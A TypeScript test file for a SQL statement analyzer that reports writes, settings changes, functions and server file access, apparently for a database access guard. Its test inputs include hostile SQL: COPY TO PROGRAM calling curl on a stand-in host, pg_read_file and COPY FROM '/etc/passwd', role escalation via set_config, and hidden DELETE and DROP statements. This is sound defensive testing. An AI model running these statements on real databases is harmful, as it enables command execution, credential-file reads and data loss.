import type { StatementFacts } from "@sluice/sql/facts";
import { loadParser, parseStatements } from "@sluice/sql/parser";
import { beforeAll, describe, expect, it } from "vitest";

beforeAll(() => loadParser());

function facts(sql: string): StatementFacts[] {
  const parsed = parseStatements(sql);
  if (!parsed.ok) throw new Error(parsed.error);
  return parsed.statements;
}
const one = (sql: string) => facts(sql)[0] as StatementFacts;
const names = (tables: StatementFacts["tablesRead"]) =>
  tables.map((t) => (t.schema ? `${t.schema}.${t.name}` : t.name)).sort();

describe("statement facts", () => {
  it("reports a parse failure instead of guessing", () => {
    expect(parseStatements("SELEC 1")).toMatchObject({
      ok: false,
      error: expect.stringContaining("syntax error"),
    });
  });

  it("finds writes hidden in a CTE of a SELECT", () => {
    const f = one("WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone");
    expect(f.kind).toBe("SELECT");
    expect(f.kinds.sort()).toEqual(["DELETE", "SELECT"]);
    expect(names(f.tablesWritten)).toEqual(["orders"]);
    expect(names(f.tablesRead)).toEqual([]);
    expect(f.unscopedWrites).toEqual([{ kind: "DELETE", table: { schema: null, name: "orders" } }]);
  });

  it("does not let a CTE's name hide a real table outside its scope", () => {
    const f = one("SELECT * FROM (WITH salaries AS (SELECT 1) SELECT * FROM salaries) s, salaries");
    expect(names(f.tablesRead)).toEqual(["salaries"]);
    const later = one("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b");
    expect(names(later.tablesRead)).toEqual(["b"]);
  });

  it("resolves quoting and Unicode escapes the way the server does", () => {
    expect(names(one('SELECT * FROM "Public"."Emp", U&"d\\0061ta", PUBLIC.EMPLOYEES').tablesRead)).toEqual([
      "Public.Emp",
      "data",
      "public.employees",
    ]);
  });

  it("sees nested kinds: EXPLAIN ANALYZE, COPY (query), PREPARE, DECLARE, MERGE, TABLE", () => {
    expect(one("EXPLAIN ANALYZE DELETE FROM t WHERE id = 1").kinds.sort()).toEqual(["DELETE", "EXPLAIN"]);
    expect(one("COPY (SELECT * FROM customers) TO STDOUT").tablesRead).toEqual([
      { schema: null, name: "customers" },
    ]);
    expect(one("PREPARE p AS UPDATE t SET x = 1").kinds.sort()).toEqual(["PREPARE", "UPDATE"]);
    expect(one("DECLARE c CURSOR FOR SELECT * FROM employees").tablesRead).toEqual([
      { schema: null, name: "employees" },
    ]);
    const merge = one("MERGE INTO a USING b ON a.id = b.id WHEN MATCHED THEN DELETE");
    expect([names(merge.tablesWritten), names(merge.tablesRead)]).toEqual([["a"], ["b"]]);
    expect(one("TABLE employees").tablesRead).toEqual([{ schema: null, name: "employees" }]);
    const into = one("SELECT * INTO copy FROM employees");
    expect([into.kinds.sort(), names(into.tablesWritten), names(into.tablesRead)]).toEqual([
      ["SELECT", "SELECT INTO"],
      ["copy"],
      ["employees"],
    ]);
  });

  it("lists every statement of a multi-statement message", () => {
    expect(facts("SELECT 1; DROP TABLE orders; -- trailing").map((f) => f.kind)).toEqual(["SELECT", "DROP"]);
    expect(names(facts("SELECT 1; DROP TABLE public.orders")[1]?.tablesWritten ?? [])).toEqual([
      "public.orders",
    ]);
  });

  it("collects functions, including in FROM and schema-qualified", () => {
    expect(
      one("SELECT * FROM pg_catalog.pg_read_file('/etc/passwd') f, upper('x')").functions.sort(),
    ).toEqual(["pg_catalog.pg_read_file", "upper"]);
  });

  it("collects settings changed by SET, RESET, set_config and transaction modes", () => {
    expect(one("SET search_path = hr, public").settings).toEqual([
      { name: "search_path", value: "hr, public", via: "SET" },
    ]);
    expect(one("RESET ROLE").settings).toEqual([{ name: "role", value: null, via: "RESET" }]);
    expect(one("SELECT set_config('role', 'postgres', false)").settings).toEqual([
      { name: "role", value: "postgres", via: "set_config" },
    ]);
    expect(one("SELECT set_config(name, 'x', false) FROM t").settings[0]?.name).toBe("*");
    expect(one("SET SESSION AUTHORIZATION postgres").kind).toBe("SET");
    expect(one("BEGIN READ WRITE").requestsReadWrite).toBe(true);
    expect(one("BEGIN READ ONLY").requestsReadWrite).toBe(false);
    expect(one("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE").requestsReadWrite).toBe(true);
  });

  it("reads a view over pg_settings as a change of a setting nobody can name, and a read of it as none", () => {
    const changes = [{ name: "*", value: null, via: "pg_settings" }];
    expect(one("UPDATE pg_catalog.pg_settings SET setting = 'off' WHERE name = 'x'").settings).toEqual(
      changes,
    );
    expect(one("CREATE TEMP VIEW s AS SELECT * FROM pg_settings").settings).toEqual(changes);
    expect(one("CREATE OR REPLACE VIEW s AS SELECT name FROM pg_catalog.pg_settings").settings).toEqual(
      changes,
    );
    expect(one("SELECT name, setting FROM pg_settings").settings).toEqual([]);
    expect(one("CREATE VIEW s AS SELECT * FROM other.pg_settings").settings).toEqual([]);
    expect(one("CREATE TEMP TABLE s AS SELECT * FROM pg_settings").settings).toEqual([]);
  });

  it("marks what it cannot see into", () => {
    expect(one("DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$").opaque[0]?.construct).toBe("DO block");
    expect(one("COPY t TO PROGRAM 'curl evil'").serverFileAccess).toBe("program");
    expect(one("COPY t FROM '/etc/passwd'").serverFileAccess).toBe("file");
    expect(one("COPY t FROM STDIN").serverFileAccess).toBeUndefined();
  });

  it("knows statements without a table", () => {
    const f = one("SELECT 1");
    expect([f.tablesRead, f.tablesWritten, f.unscopedWrites]).toEqual([[], [], []]);
  });

  it("names the columns used", () => {
    expect(one("SELECT e.salary, name FROM employees e WHERE e.id = 1").columns.sort()).toEqual([
      "e.id",
      "e.salary",
      "name",
    ]);
  });

  it("says which clause uses each column", () => {
    const f = one(
      "SELECT c.email, count(o.id) FROM customers c JOIN orders o ON o.customer_id = c.id WHERE c.ssn = '123' GROUP BY c.email HAVING sum(o.total) > 1 ORDER BY c.email",
    );
    expect(f.columnsByClause).toEqual({
      select: ["c.email"],
      aggregate: ["o.id", "o.total"],
      join: ["o.customer_id", "c.id"],
      where: ["c.ssn"],
      group: ["c.email"],
      order: ["c.email"],
    });
    expect(one("SELECT rank() OVER (PARTITION BY ssn ORDER BY salary) FROM t").columnsByClause).toEqual({
      window: ["ssn", "salary"],
    });
    expect(one("UPDATE t SET a = b WHERE c = 1 RETURNING d").columnsByClause).toEqual({
      set: ["b"],
      where: ["c"],
      returning: ["d"],
    });
  });
});
